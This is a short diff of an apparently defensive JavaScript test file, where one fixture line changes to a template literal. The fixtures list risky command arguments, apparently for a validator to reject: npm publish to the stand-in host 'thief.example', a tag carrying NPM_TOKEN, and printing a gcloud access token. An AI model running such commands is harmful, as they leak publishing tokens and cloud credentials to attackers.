@@ -116,7 +116,7 @@ describe('the arguments of a binary that is known', () => {
     ['npm', 'publish --No-ignore-scripts'],
     ['npm', 'publish -C x'],
     ['npm', 'publish --reg https://thief.example'],
-    ['npm', 'publish --tag=${NPM_TOKEN}'],
+    ['npm', `publish --tag=\${NPM_TOKEN}`],
     ['psql-16', '-f x.sql'],
     ['gcloud', 'auth print-access-token'],
     ['gcloud', 'compute ssh x'],
